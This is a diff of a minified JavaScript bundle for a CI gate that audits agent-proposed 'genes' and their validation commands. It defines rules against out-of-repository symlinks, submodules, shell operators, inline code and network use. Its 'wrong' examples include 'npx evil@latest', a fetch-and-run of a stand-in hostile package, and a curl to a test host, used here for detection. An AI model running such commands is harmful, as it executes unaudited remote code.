-[]].join("; and ")}.`,remedy:"Split the change, or add generated and vendored files in a change without a gene."}),"syml\
-ink-leaves-tree":i({forbidsRunning:"change",title:"Change adds a symlink that leaves the repository or never resolves",why:"\
-What runs must be what was audited. A symlink that points outside the repository, or in a circle, shows one thing to the\
- audit and another to the command.",wrong:{head:{[W]:[V()],"scripts/extra.js":{symlink:"/tmp/check.js"}}},right:{head:{[W]:[
-V()],"scripts/extra.js":{symlink:"../src/index.js"}}},message:({path:b,target:O,likewise:Y=[],more:me=0})=>`The symlink \
-\`${b}\` points to \`${O}\`, which does not resolve to a path inside the repository${Ct({likewise:Y,more:me})}.`,remedy:"\
-Replace `{path}` with the file itself or with a symlink that stays inside the repository."}),"submodule-changed":i({forbidsRunning:"\
-change",harm:"broken",title:"Change with a gene adds or updates a submodule",why:"A submodule is one line in git and any\
- number of files on disk, from another repository. Its files can neither be counted against a limit nor audited. `.gitmo\
-dules` decides which repository that is and where git stores it, so a change to that file counts as well.",wrong:{head:{
-[W]:[V()],tools:We}},right:{head:{[W]:[V()]}},message:({path:b,likewise:O=[],more:Y=0})=>`The change adds or updates \`${b}\
-\`, and the files of submodules cannot be audited${Ct({likewise:O,more:Y})}.`,remedy:"Add or update the submodule in a s\
-eparate change without a gene."}),"merge-not-proven":c({title:"Head audited because the checked-out merge commit is not \
-proven",why:"Anyone can make a commit with the parents of a test merge and any content. The gate audits a merge commit o\
-nly if the API names it as the test merge of the pull request, or if git computes the same content from both parents and\
- the first one is a recent commit of the base branch. A difference proves nothing, because versions of git merge differe\
-ntly. The gate then audits the head of the pull request, compared with its merge base.",wrong:{...Re,checkout:"another m\
-erge"},right:{...Re,checkout:"test merge"},message:({merge:b,reason:O})=>`The gate audited the head of the pull request,\
- because the checked-out merge commit \`${b.slice(0,12)}\` is not proven: ${O}.`,remedy:"Give the step a `github-token` \
-with `contents: read` and run the job again, or check out the head with `ref: ${{ github.event.pull_request.head.sha }}`\
-."})}),_e={network_touching:"Commands that contact other hosts are accepted with this warning."},Qe="curl -I https://hos\
-t.test",dt={command:Qe,also:_e},bt={archive_extraction_overwrite:"The contents of the archive are not inspected."},ft={archive_creation_overwrite:"\
-The archive may already exist."},qe=`profile: curated
+  hard_cap_lines: 20000`,message:({files:b,lines:O,capFiles:Y,capLines:me,genes:Le,exempt:Wt=0})=>`The change ${Le>1?`wi\
+th ${Le} genes `:""}touches ${[...O>me&&b<=Y?[]:[`${we(b)}, but the hard cap is ${Y}`],...O>me?[`${ge(O)}, but the hard \
+cap is ${me}`]:[]].join("; and ")}.${O>me&&Wt>0?` The cap also counts the asset store and new scripts: ${ge(Wt)}.`:""}`,
+remedy:"Split the change, or add generated and vendored files in a change without a gene. In JSON Lines (`genes.jsonl`),\
+ an asset is one line."}),"symlink-leaves-tree":i({forbidsRunning:"change",title:"Change adds a symlink that leaves the \
+repository or never resolves",why:"What runs must be what was audited. A symlink that points outside the repository, or \
+in a circle, shows one thing to the audit and another to the command.",wrong:{head:{[W]:[V()],"scripts/extra.js":{symlink:"\
+/tmp/check.js"}}},right:{head:{[W]:[V()],"scripts/extra.js":{symlink:"../src/index.js"}}},message:({path:b,target:O,likewise:Y=[],
+more:me=0})=>`The symlink \`${b}\` points to \`${O}\`, which does not resolve to a path inside the repository${Ct({likewise:Y,
+more:me})}.`,remedy:"Replace `{path}` with the file itself or with a symlink that stays inside the repository."}),"submo\
+dule-changed":i({forbidsRunning:"change",harm:"broken",title:"Change with a gene adds or updates a submodule",why:"A sub\
+module is one line in git and any number of files on disk, from another repository. Its files can neither be counted aga\
+inst a limit nor audited. `.gitmodules` decides which repository that is and where git stores it, so a change to that fi\
+le counts as well.",wrong:{head:{[W]:[V()],tools:We}},right:{head:{[W]:[V()]}},message:({path:b,likewise:O=[],more:Y=0})=>`\
+The change adds or updates \`${b}\`, and the files of submodules cannot be audited${Ct({likewise:O,more:Y})}.`,remedy:"A\
+dd or update the submodule in a separate change without a gene."}),"merge-not-proven":c({title:"Head audited because the\
+ checked-out merge commit is not proven",why:"Anyone can make a commit with the parents of a test merge and any content.\
+ The gate audits a merge commit only if the API names it as the test merge of the pull request, or if git computes the s\
+ame content from both parents and the first one is a recent commit of the base branch. A difference proves nothing, beca\
+use versions of git merge differently. The gate then audits the head of the pull request, compared with its merge base.",
+wrong:{...Re,checkout:"another merge"},right:{...Re,checkout:"test merge"},message:({merge:b,reason:O})=>`The gate audit\
+ed the head of the pull request, because the checked-out merge commit \`${b.slice(0,12)}\` is not proven: ${O}.`,remedy:"\
+Give the step a `github-token` with `contents: read` and run the job again, or check out the head with `ref: ${{ github.\
+event.pull_request.head.sha }}`."})}),_e={network_touching:"Commands that contact other hosts are accepted with this war\
+ning."},Qe="curl -I https://host.test",dt={command:Qe,also:_e},bt={archive_extraction_overwrite:"The contents of the arc\
+hive are not inspected."},ft={archive_creation_overwrite:"The archive may already exist."},qe=`profile: curated
 mode: dangerous
 allow_dangerous: true`,yt=`profile: curated
 allowed_roots: [/srv/app]`,Jt=`profile: curated
@@ -898,7 +900,7 @@ d. An operator makes a shell run a second one, insert the output of one, or open
 rands of archives, operators are blocked even inside quotes, which people and tools that pass them on can lose.",wrong:Y,
 right:"tar -tf a.tar",message:({operator:me})=>`The command contains a blocked shell operator (${b}): \`${me}\`.`,remedy:"\
 Write a single command without shell operators."})}const cn={right:"cat notes.md",remedy:"Confirm that this is intended."},
-$s=l("policy","broken",{no_command:i({title:"Command is missing",why:"The curated validator validates the command of a p\
+Rs=l("policy","broken",{no_command:i({title:"Command is missing",why:"The curated validator validates the command of a p\
 roposal. Without a command, it has nothing to accept.",wrong:"",right:"cat notes.md",message:"The proposal has no comman\
 d to validate.",remedy:"Write a command."}),parse_failed:i({title:"Command cannot be parsed",why:"Text that a shell cann\
 ot split into words has no meaning that can be validated.",wrong:'tar -tf "release.tar',right:"tar -tf release.tar",message:"\
@@ -980,8 +982,8 @@ e of the Capsule in `genes_used`, and its `blast_radius`, if it has one, is not 
 events:[]},right:{...rr(),candidates:[q({success_streak:2})]},configure:`a2a:
   min_success_streak: 2`,message:({capsule:b,streak:O,least:Y,uncounted:me})=>`The Capsule \`${b}\` is not eligible: the \
 events show ${O} consecutive ${O===1?"success":"successes"}, but the policy requires ${Y}${me.map(Le=>`; ${Le}`).join("")}\
-.`,remedy:"Apply the Capsule again, so that the engine appends the complete events of its cycles to the log."})}),en=Ie(
-...Array.from({length:9},(b,O)=>({id:`evt_${O+1}`,...O>0&&{parent:`evt_${O}`},capsule_id:"capsule_1"}))).head;function An(b,O){
+.`,remedy:"Apply the Capsule again, so that the engine appends the complete events of its cycles to the log."})}),tn=Ie(
+...Array.from({length:9},(b,O)=>({id:`evt_${O+1}`,...O>0&&{parent:`evt_${O}`},capsule_id:"capsule_1"}))).head;function Sn(b,O){
 return{head:{[se]:[q(b)],...O}}}function cs(b,O={}){const me={protocol:"gep-a2a",message_type:"publish",sender_id:"node_\
 7",...O,payload:{...b,asset:{type:"Mutation",id:"mut_1",category:"repair",trigger_signals:["log_error"],target:"gene:gen\
 e_a",expected_effect:"The error is gone.",risk_level:"low"}}};return`${JSON.stringify(me,null,2)}
@@ -1014,15 +1016,15 @@ evidence",title:"Claim of an asset differs from what the change or the events sh
 t radius and `success_streak`, and an event estimates what it will edit. The gate compares these claims with git and wit\
 h the events. A blast radius below every way of counting is a warning, and one above all changed files and lines is a no\
 tice; the claims of one change are added up. An estimate differs if the change touches more than three times as many fil\
-es, or fewer than a tenth.",wrong:An({blast_radius:{files:1,lines:1}},{"src/<1-3>.js":`work();
-`}),right:An({blast_radius:{files:3,lines:3}},{"src/<1-3>.js":`work();
+es, or fewer than a tenth.",wrong:Sn({blast_radius:{files:1,lines:1}},{"src/<1-3>.js":`work();
+`}),right:Sn({blast_radius:{files:3,lines:3}},{"src/<1-3>.js":`work();
 `}),message:"The {type} `{id}` {claim}, but {shown}.",remedy:"{fix}."}),"claim-not-checked":o({counted:["why"],unproven:!0,
 group:"evidence",title:"Claim could not be checked, because a log was not read completely",why:"Of an audit log, the new\
 est records up to `assets.max_file_bytes` are read. If they do not decide a claim, the gate says so, instead of counting\
- what it did not read as missing. A Capsule is not eligible for promotion until its successes are counted.",wrong:{base:en,
-...An({success_streak:9},en),policy:`assets:
+ what it did not read as missing. A Capsule is not eligible for promotion until its successes are counted.",wrong:{base:tn,
+...Sn({success_streak:9},tn),policy:`assets:
   max_file_bytes: 1500
-`},right:{base:en,...An({success_streak:9},en)},configure:`assets:
+`},right:{base:tn,...Sn({success_streak:9},tn)},configure:`assets:
   max_file_bytes: 67108864`,message:"The gate could not check {claim}. It read {why}.",remedy:"Increase `assets.max_file\
 _bytes` in the policy on the base branch."}),"envelope-contradicts-asset":i({otherAsset:!0,title:"Message or wrapper con\
 tradicts the asset that it contains",why:"A message between agents, and each entry in the answer of a hub, says beside t\
@@ -1030,10 +1032,10 @@ he asset which asset it is: `asset_id`, `content_hash`, `asset_type`, `type` or 
 et, one of the two was edited, or they are about different assets. Readers that trust different parts of it would accept\
  different assets.",wrong:{head:{[W]:cs({local_id:"mut_other"})}},right:{head:{[W]:cs({local_id:"mut_1"})}},message:"The\
  object that contains the {type} `{id}` states `{field}` {stated}, but the asset has {actual}.",remedy:"Request the asse\
-t again from its sender."})}),Rs=new Set(["bun","deno","python","python3"]),Gn={policy:`programs: [make]
+t again from its sender."})}),Ns=new Set(["bun","deno","python","python3"]),Gn={policy:`programs: [make]
 `,files:{Makefile:`test:
 	node scripts/check.js
-`}};function Yt(b,O){return O===""?`\`${b}\``:`\`${b} ${O}\``}const Ns=/^-{1,2}(?:[a-zA-Z]{1,2}|eval|print|run|call)$/,us=l(
+`}};function Vt(b,O){return O===""?`\`${b}\``:`\`${b} ${O}\``}const Fs=/^-{1,2}(?:[a-zA-Z]{1,2}|eval|print|run|call)$/,us=l(
 "invocation","broken",{"unknown-flag":i({title:"Flag is unknown",why:"A flag decides what runs, and an unknown flag may \
 take the next word as its value. It can be newer than the tables of the gate, or misspelled. Of npm, only the flags that\
  say which scripts run, and how much it prints, are known: npm 10 and 11 discard or complete one that they do not have, \
@@ -1052,13 +1054,13 @@ removable:!0,title:"Command runs code that is no file of the commit",why:"Inline
 ins and configuration from elsewhere, and programs that a tool starts are not read as the code of the commit is. What op\
 ens a debugger or a shell runs whatever is sent to it.",wrong:`node -e "require('./check')"`,right:"node scripts/validat\
 e/check.cjs",message:({program:b,flag:O})=>O===b||/['"`]/.test(O)?`\`${b}\` starts other code than files of the commit.`:
-`${Yt(b,O)} runs code that is no file of the commit.`,remedy:({program:b,flag:O})=>O.startsWith("-")&&!Ns.test(O)?`Remov\
+`${Vt(b,O)} runs code that is no file of the commit.`,remedy:({program:b,flag:O})=>O.startsWith("-")&&!Fs.test(O)?`Remov\
 e \`${O}\`: keep code and configuration in files of the commit that the program finds by itself.`:`Move the code into a \
-script in the repository, and run it with \`${Rs.has(b)?b:"node"}\`; write what is started as a command of its own.`}),"\
+script in the repository, and run it with \`${Ns.has(b)?b:"node"}\`; write what is started as a command of its own.`}),"\
 uses-network":i({harm:"danger",removable:!0,title:"Command downloads, installs, publishes, or asks a server",why:"What a\
  server answers changes over time, and an installation runs scripts of packages. npx downloads and runs a package that i\
 t does not find, and a version, tag, path, or address names something to download. A validation command only reads; it h\
-as no network and no account.",wrong:"npx evil@latest",right:"npx eslint src",message:({program:b,flag:O})=>`${Yt(b,O)} \
+as no network and no account.",wrong:"npx evil@latest",right:"npx eslint src",message:({program:b,flag:O})=>`${Vt(b,O)} \
 uses the network, or installs or publishes packages.`,remedy:({program:b})=>b==="npx"?"Add the package to `devDependenci\
 es` and the lockfile, and run the tool by its plain name.":"Check what the commit and its dependencies hold; install pac\
 kages in the workflow with the `prepare` input, not in a gene."}),"writes-files":i({removable:!0,title:"Command writes f\
@@ -1099,7 +1101,7 @@ replaces the one of the Makefile, becomes part of shell text, and is in the envi
 [TESTS]",message:"`{program} {variable}=\u2026` sets a variable for the build files and the programs that they start.",remedy:"\
 Set `{variable}` in the build file, or allow it with `make_variables: [{variable}]` in the policy of the base branch."}),
 "only-prints":o({title:"Command only prints information",why:"The command does not check the change, so it passes whatev\
-er the change does.",wrong:"node --version",right:"node scripts/check.js",message:({program:b,flag:O})=>`${Yt(b,O)} only\
+er the change does.",wrong:"node --version",right:"node scripts/check.js",message:({program:b,flag:O})=>`${Vt(b,O)} only\
  prints information and validates nothing.`,remedy:"Run a command that fails when the gene breaks something."}),"checks-\
 syntax-only":o({title:"Command only checks syntax",why:"`node --check`, `php -l`, and `python -m py_compile` read files \
 and do not run them.",wrong:"node --check src/index.js",right:"node --test",message:"`{flag}` checks the syntax of a fil\
@@ -1139,7 +1141,7 @@ families:
       forms: { scripts/check.js: {} }
       match: ['node scripts/check.js']
       not_match: ['node scripts/other.js']
-`,Rt=50;function jt(b){const O=b.length-Rt;return`${b.slice(0,Rt).join("; ")}${O>0?`; and ${O} more`:""}`}const Hn=12;function Fs(b){
+`,Rt=50;function jt(b){const O=b.length-Rt;return`${b.slice(0,Rt).join("; ")}${O>0?`; and ${O} more`:""}`}const Hn=12;function Ps(b){
 const O=b.length-Hn;return`${(0,s.p)(b.slice(0,Hn))}${O>0?`, and ${O} more lines`:""}`}function ir(b,O,Y,me){return O===
 "review"?`Ask ${b===1?"a person":ar(b)} with write access, other than the author, to approve the pull request with a rev\
 iew that contains the line \`/gene-gate approve\`${me&&`, or \`/gene-gate approve ${me}\` for exactly this digest`}.`:`I\
@@ -1148,7 +1150,7 @@ tings change after the merge: ${jt(b)}`}function Kr([b,...O]){return O.length===
 length} more of its commands require`}function qr(b,O){if(b===1)return"";const Y=O===1?"one has":`${O} have`;return O===
 0?` from ${ar(b)}`:` from ${ar(b)}, and ${Y} approved`}function ar(b){return b===2?"two people":`${b} people`}const Yr=3;
 function cr(b){if(b.length===0)return"";const O=b.length-Yr;return`; not counted: ${b.slice(0,Yr).join("; ")}${O>0?`; an\
-d ${O} more`:""}`}function So(b,O){return`ignores:
+d ${O} more`:""}`}function To(b,O){return`ignores:
   - rule: ${b}
     where: { gene: gene_a }
     reason: The engine writes it from its next release on.
@@ -1208,7 +1210,7 @@ s removal, or a fence, comment or fold around it is shown with its lines; a bloc
 notice. Instructions protect nothing: the gate decides in the same way without them, so nobody has to approve the edit.",
 wrong:{base:Ze,head:{"AGENTS.md":`# Agents
 `}},right:{head:{"AGENTS.md":`# Agents
-`},also:Xe},message:({path:b,effect:O,lines:Y})=>`The block of gene-gate in \`${b}\` ${O}${Y.length>0?`: ${Fs(Y)}`:""}.`,
+`},also:Xe},message:({path:b,effect:O,lines:Y})=>`The block of gene-gate in \`${b}\` ${O}${Y.length>0?`: ${Ps(Y)}`:""}.`,
 remedy:({path:b})=>`Run \`gene-gate init --${/^(?:CLAUDE|.*gene-gate(?=\.mdc))/.test(b)?b.endsWith(".mdc")?"cursor":"cla\
 ude":"agents"}\`, and commit the file.`}),"gate-approval-missing":o({approval:"waits",harm:"danger",actor:"human",counted:[
 "weakens","runs"],title:"Change of the gate waits for approval",why:"A change that weakens the gate needs the approval o\
@@ -1228,7 +1230,7 @@ head:{},inputs:{"command-timeout-seconds":3600}},right:{head:{},policy:`limits:
 ption in the policy has no effect",why:"A policy can soften warnings, and errors about what an asset claims or how much \
 it touches. It cannot soften what protects the machine. An ignore, or a level with `until`, is temporary: after its last\
  day the finding counts again, and the exception is reported until the cause is fixed or a person sets a new date. An ig\
-nore that covers nothing hides the next finding of its rule.",wrong:{...te({validation:['node -e "1"']}),policy:So("outs\
+nore that covers nothing hides the next finding of its rule.",wrong:{...te({validation:['node -e "1"']}),policy:To("outs\
 ide-code",2099),also:{"outside-code":"It is blocked with or without the ignore."}},right:ls,message:"{exception} in the \
 policy has no effect: {refusal}.",remedy:"Fix what the rule reports and remove the exception, or correct its rule or dat\
 e."}),"approval-missing":c({approval:"waits",actor:"human",title:"Gene waits for approval",why:"The policy allows these \
@@ -1240,13 +1242,13 @@ fected_by` in the policy names; a base branch that moves on does not. See [appro
 approvedBy:["author"]},right:{...ls,policy:$t,approvedBy:["alice"]},configure:`A policy whose profile does not require c\
 onfirmation, such as evolver, waits only for scripts that nobody can read.
 A gene whose commands are neither dangerous nor experimental, and run no such script, never waits.`,message:({gene:b,confirmation:O,
-needed:Y,given:me,commands:Le,refusals:tn})=>`The gene \`${b}\` waits for approval: ${Kr(Le)} ${O} confirmation${qr(Y,me)}${cr(
-tn)}.`,remedy:({needed:b,means:O,digest:Y})=>ir(b,O,"these commands may run with the files of this commit",Y)})});function Ps(b=[]){
+needed:Y,given:me,commands:Le,refusals:Wt})=>`The gene \`${b}\` waits for approval: ${Kr(Le)} ${O} confirmation${qr(Y,me)}${cr(
+Wt)}.`,remedy:({needed:b,means:O,digest:Y})=>ir(b,O,"these commands may run with the files of this commit",Y)})});function Ls(b=[]){
 const O=["node","npm","npx",...b].map(Y=>`\`${Y}\``);return`${O.slice(0,-1).join(", ")}, and ${O.at(-1)}`}const ur=new Set(
 ": cd echo exit export false printf pwd return set true umask unset wait".split(" "));function Qr(b){return`Move what \`${b}\
-\` does into a Node script and run it with \`node\``}const Ls=/^(?:interpreter|builder|manager|other)$/,js=/^[A-Za-z][\w.+-]*$/;
+\` does into a Node script and run it with \`node\``}const js=/^(?:interpreter|builder|manager|other)$/,Ms=/^[A-Za-z][\w.+-]*$/;
 function ds({program:b,group:O="",offered:Y="",word:me=""}){const Le="in the policy of the base branch";return Y!==""?`,\
- or ${me===""?"":`write \`${me}\` and `}add \`${Y}\` to \`programs\` ${Le}`:Ls.test(O)&&js.test(b)?`, or describe the pr\
+ or ${me===""?"":`write \`${me}\` and `}add \`${Y}\` to \`programs\` ${Le}`:js.test(O)&&Ms.test(b)?`, or describe the pr\
 ogram with \`families\` and add it to \`programs\` ${Le}`:""}const lr=l("program","broken",{"command-not-text":i({anyText:!0,
 title:"Validation command is not a string",why:"Each entry of `validation` is one command line. Engines that convert oth\
 er values to text run a command that was never written: a nested list becomes its joined entries.",wrong:{command:["node\
@@ -1268,7 +1270,7 @@ ot-allowed":i({title:"Program is not allowed",why:"Validation runs on unattended
 available on all of them, and the gate understands every argument of these programs. A policy can allow other programs b\
 y name, with `programs`. Move anything else into a Node script.",wrong:"bash scripts/check.sh",right:"node scripts/check\
 .js",configure:"programs: [pytest, cargo]",counted:["offered","word","allowed"],message:({program:b,allowed:O})=>`\`${b}\
-\` is not an allowed program; only ${Ps(O)} are allowed.`,remedy:b=>b.group==="npx"?`Add the package of \`${b.program}\` \
+\` is not an allowed program; only ${Ls(O)} are allowed.`,remedy:b=>b.group==="npx"?`Add the package of \`${b.program}\` \
 to \`devDependencies\` and the lockfile, and run it with \`npx\`.`:ur.has(b.program)?`Write a command that fails if some\
 thing is wrong, such as \`node scripts/check.js\`; \`${b.program}\` checks nothing.`:`${Qr(b.program)}${ds(b)}.`})},"`ev\
 olver` and `validator`"),dr={gene:"gene_b"},Xr={status:"success",score:.9,notes:"It went well."},ei=[U({genes_used:["gen\
@@ -1295,36 +1297,37 @@ res ids of more than 200 characters. The repository keeps its own assets: a cand
 he same id and different content, as in the reference engine. Of two candidates with the same id, the first is kept.",wrong:{
 candidates:[V()],...$},right:{candidates:[V({id:"gene_a_from_agent_7"})],...$},message:"The id of the {type} `{id}` {why\
 }.",remedy:"Ask the author for the asset with another id, or rename it and hash it again to keep both."}),"fields-not-ha\
-shed":c({instance:["fields"],title:"Fields of a Capsule are not covered by its hash",why:"A hub strips `outcome.notes` a\
-nd `outcome.details` from a Capsule before it hashes it. Anybody between its author and you can change these texts, and \
-the hash still matches. A promoted Capsule is hashed again, and the new hash would make such a text look like the author\
-\u2019s. So the promoted Capsule does not contain it.",wrong:{candidates:[q({outcome:Xr,asset_id:ke.hub})]},right:{candidates:[
-q({outcome:Xr,asset_id:ke.own})]},message:"The `asset_id` of the Capsule `{capsule}` does not cover {fields}. The promot\
-ed Capsule leaves this text out.",remedy:"No action is required; to keep the text, ask the author for the Capsule with t\
-he hash of its whole content."}),"bundle-incomplete":i({unproven:!0,title:"Candidate belongs to a bundle that is not pro\
-moted",why:"Agents publish a Gene together with the Capsules that prove it, and hubs accept a bundle as a whole. What on\
-e message or one archive contains is a bundle, and of its Genes with their Capsules all are promoted or none is. Any oth\
-er Capsule needs its Gene, because it cannot be applied without it; a Gene does not need the Capsules that others offer.",
-wrong:{candidates:[V({id:"gene_b",strategy:[]}),q(dr)],events:ei,also:{"schema-field":"It is why the Gene is not promote\
-d.","strategy-missing":"It is why the Gene is not promoted."}},right:{candidates:[V({id:"gene_b"}),q(dr)],events:ei},instance:[
-"type","id","otherType","other"],message:"The {type} `{id}` is not promoted because the {otherType} `{other}`, which it \
-needs or was sent with, is not.",remedy:"Fix the other asset, or pass the two in separate promotions."}),"nothing-to-pro\
-mote":c({title:"Message or asset is nothing that agents exchange",why:"Agents offer Genes, Capsules and EvolutionEvents \
-in messages of the types `publish`, `report`, and `fetch`. Mutations and ValidationReports of a log, and the assets of a\
-ny other message, are not promoted. A ValidationReport is evidence: pass it with `--report`.",wrong:{candidates:[V(),{type:"\
-Mutation",id:"mut_1"}]},right:{candidates:[V()]},message:"{what} is not promoted: agents do not exchange it.",remedy:"No\
- action is required; you can pass a ValidationReport with `--report`."}),"already-promoted":c({title:"Candidate already \
-exists",why:"Promoting an asset twice has the same result as promoting it once: an asset with the same content is not ap\
-pended again and is not an error.",wrong:{candidates:[V()],files:{[W]:[V()]}},right:{candidates:[V()],files:{}},message:"\
-The same {type} `{id}` already exists in `{place}`.",remedy:"No action is required."}),"evidence-missing":i({unproven:!0,
-title:"No report, run or signed promotion proves the candidate",why:"A ValidationReport is evidence for one version of o\
-ne gene, the one with the hash in `gene_asset_id`, and for one policy, which decides which commands run, for how long, a\
-nd in which containment. Workflow inputs that tighten the policy change its digest. A valid signature only says who sign\
-ed: a signed promotion counts if it promoted the same content by the report of a gate, if the policy lists its signer (t\
-he repository, the workflow file, and the ref that it runs for), if it was decided by the policy of this promotion or on\
-e that the policy names for this signer, and if it is not older than `max_age_days`. The newest one counts. With `--run`\
-, all commands of a gene must pass; if the run was interrupted or waits for approval, the result is unknown.",wrong:{candidates:[
-V()],reports:[pe({gene_asset_id:Te})]},right:nt,configure:`a2a:
+shed":c({instance:["fields"],title:"Fields of an asset are not covered by its hash",why:"A hub strips `outcome.notes` an\
+d `outcome.details` from a Capsule before it hashes it, and an engine its local annotations (`generation_meta`, `model_n\
+ame`) from a Gene. Anybody between its author and you can change these texts, and the hash still matches. A promoted ass\
+et may be hashed again, and the new hash would make such a text look like the author\u2019s. So the promoted asset does not c\
+ontain it.",wrong:{candidates:[q({outcome:Xr,asset_id:ke.hub})]},right:{candidates:[q({outcome:Xr,asset_id:ke.own})]},message:"\
+The `asset_id` of the {type} `{id}` does not cover {fields}. The promoted {type} leaves this text out.",remedy:"No actio\
+n is required; to keep the text, ask the author for the asset with the hash of its whole content."}),"bundle-incomplete":i(
+{unproven:!0,title:"Candidate belongs to a bundle that is not promoted",why:"Agents publish a Gene together with the Cap\
+sules that prove it, and hubs accept a bundle as a whole. What one message or one archive contains is a bundle, and of i\
+ts Genes with their Capsules all are promoted or none is. Any other Capsule needs its Gene, because it cannot be applied\
+ without it; a Gene does not need the Capsules that others offer.",wrong:{candidates:[V({id:"gene_b",strategy:[]}),q(dr)],
+events:ei,also:{"schema-field":"It is why the Gene is not promoted.","strategy-missing":"It is why the Gene is not promo\
+ted."}},right:{candidates:[V({id:"gene_b"}),q(dr)],events:ei},instance:["type","id","otherType","other"],message:"The {t\
+ype} `{id}` is not promoted because the {otherType} `{other}`, which it needs or was sent with, is not.",remedy:"Fix the\
+ other asset, or pass the two in separate promotions."}),"nothing-to-promote":c({title:"Message or asset is nothing that\
+ agents exchange",why:"Agents offer Genes, Capsules and EvolutionEvents in messages of the types `publish`, `report`, an\
+d `fetch`. Mutations and ValidationReports of a log, and the assets of any other message, are not promoted. A Validation\
+Report is evidence: pass it with `--report`.",wrong:{candidates:[V(),{type:"Mutation",id:"mut_1"}]},right:{candidates:[V()]},
+message:"{what} is not promoted: agents do not exchange it.",remedy:"No action is required; you can pass a ValidationRep\
+ort with `--report`."}),"already-promoted":c({title:"Candidate already exists",why:"Promoting an asset twice has the sam\
+e result as promoting it once: an asset with the same content is not appended again and is not an error.",wrong:{candidates:[
+V()],files:{[W]:[V()]}},right:{candidates:[V()],files:{}},message:"The same {type} `{id}` already exists in `{place}`.",
+remedy:"No action is required."}),"evidence-missing":i({unproven:!0,title:"No report, run or signed promotion proves the\
+ candidate",why:"A ValidationReport is evidence for one version of one gene, the one with the hash in `gene_asset_id`, a\
+nd for one policy, which decides which commands run, for how long, and in which containment. Workflow inputs that tighte\
+n the policy change its digest. A valid signature only says who signed: a signed promotion counts if it promoted the sam\
+e content by the report of a gate, if the policy lists its signer (the repository, the workflow file, and the ref that i\
+t runs for), if it was decided by the policy of this promotion or one that the policy names for this signer, and if it i\
+s not older than `max_age_days`. The newest one counts. With `--run`, all commands of a gene must pass; if the run was i\
+nterrupted or waits for approval, the result is unknown.",wrong:{candidates:[V()],reports:[pe({gene_asset_id:Te})]},right:nt,
+configure:`a2a:
   attestation:
     - repository: agents/genes
       workflow: .github/workflows/gene-gate.yml
@@ -1354,18 +1357,18 @@ the signed time are verified with the trusted root, and its statement is a promo
 V()],reports:[pe({asset_id:Te})]},right:nt,instance:["source"],message:"The {source} is not evidence: {why}.",remedy:"Va\
 lidate the current version of the asset with the gate, and pass its evidence exactly as it was written, an attestation w\
 ith the trusted root of its Sigstore instance."})});function ut(b){return{head:{[W]:[V({validation:["node scripts/check.\
-js"]})],"scripts/check.js":b},run:{}}}const Vt=`containment: require
+js"]})],"scripts/check.js":b},run:{}}}const Qt=`containment: require
 `;function Xn(b){const{head:O}=ut(b);return{head:{...O,"src/sum.js":`exports.sum = (a, b) => a + b;
-`},policy:`${Vt}mutants: auto
+`},policy:`${Qt}mutants: auto
 `,run:{}}}const bn=ut(`console.log('OK');
-`),zn={...bn,run:{prepare:"node --version"}},Ms={"target-writes":"The audit cannot tell where to."},Un=`const fs = requi\
+`),zn={...bn,run:{prepare:"node --version"}},Gs={"target-writes":"The audit cannot tell where to."},Un=`const fs = requi\
 re('node:fs');
-`,Sn={...ut(`${Un}fs.readFileSync('.env.test');
+`,Tn={...ut(`${Un}fs.readFileSync('.env.test');
 `),run:{untracked:{".env.test":`MODE=test
 `}}},Mt=`setInterval(() => {}, 1000);
 `;function Bs(b){return b&&`; ${b}`}const _n=5;function fs(b){return`${(0,s.p)(b.slice(0,_n))}${b.length>_n?", \u2026":""}`}
-function To(b,O,Y){const me=Y>_n?` (${Y} files)`:"",Le=`${fs(O)}${me}`;return b==="functions_fail"?`every function of ${Le}\
- made to fail`:b==="unparsable"?`${Le} made unreadable for every parser`:`${Le} broken`}const Io=l("run","broken",{"comm\
+function Io(b,O,Y){const me=Y>_n?` (${Y} files)`:"",Le=`${fs(O)}${me}`;return b==="functions_fail"?`every function of ${Le}\
+ made to fail`:b==="unparsable"?`${Le} made unreadable for every parser`:`${Le} broken`}const $o=l("run","broken",{"comm\
 and-failed":i({counted:["how"],title:"Validation command failed",why:"A command passes when it exits with code 0. It fai\
 ls with any other code, and if it could not start or was killed by a signal: without an exit code it has validated nothi\
 ng. The later commands of the gene are skipped. If containment explains the failure, because a command reached a limit o\
@@ -1420,15 +1423,15 @@ if (sum(1, 2) !== 3) process.exit(1);
 # or, to require it of every gene
 rules:
   passes-when-broken: error`,counted:["files","total","how"],message:({command:b,files:O,total:Y,how:me,isExisting:Le})=>Le?
-`The command \`${b}\` notices defects of new files only: it also passed with ${To(me,O,Y)}, which existed before.`:`The \
-command \`${b}\` also passed with ${To(me,O,Y)}; it does not detect this.`,remedy:({files:[b="the change",...O]})=>`Make\
+`The command \`${b}\` notices defects of new files only: it also passed with ${Io(me,O,Y)}, which existed before.`:`The \
+command \`${b}\` also passed with ${Io(me,O,Y)}; it does not detect this.`,remedy:({files:[b="the change",...O]})=>`Make\
  one command fail when \`${b}\`${O.length>0?" (or another of these files)":""} is broken, for example by a test that cal\
 ls it. Remove or replace a command that checks nothing.`}),"command-writes":o({title:"Validation command writes to the c\
 heckout",why:"A validation command should only read. Each command has a private copy of the checkout, so its output file\
 s are discarded when it ends, and a later command that needs them fails. Caches are not reported.",wrong:{...ut(`${Un}fs\
 .writeFileSync('report.txt', 'OK');
-`),policy:Vt},right:{...ut(`${Un}fs.writeFileSync(process.env.TMPDIR + '/report.txt', 'OK');
-`),policy:Vt,also:Ms},configure:`caches:
+`),policy:Qt},right:{...ut(`${Un}fs.writeFileSync(process.env.TMPDIR + '/report.txt', 'OK');
+`),policy:Qt,also:Gs},configure:`caches:
   - '**/.cache/**'
   - 'coverage/**'`,message:({command:b,paths:O})=>`The command \`${b}\` wrote to the checkout: ${fs(O)}.`,remedy:"Write \
 to the temporary directory (`TMPDIR`), or add the cache to `caches` in the policy."}),"checkout-modified":i({harm:"dange\
@@ -1453,21 +1456,21 @@ re it sees more than the commit",why:"`prepare` starts code of the change: scrip
 e. Commands then run in a private copy of the commit, its dependencies and its build outputs. A checkout with more than \
 200,000 files or 4 GiB is too large to copy: in CI this is an error, and in a terminal they run in the checkout.",wrong:{
 ...zn,policy:`containment: off
-`},right:{...zn,policy:Vt},message:"{what}: {reason}.",remedy:"Use Linux with passwordless sudo or unprivileged user nam\
+`},right:{...zn,policy:Qt},message:"{what}: {reason}.",remedy:"Use Linux with passwordless sudo or unprivileged user nam\
 espaces, and leave `containment` on."}),"checkout-changed":i({title:"Files of the checkout changed while the gate ran",why:"\
 The gate compares the tracked files with the audited commit just before and after each command. If something other than \
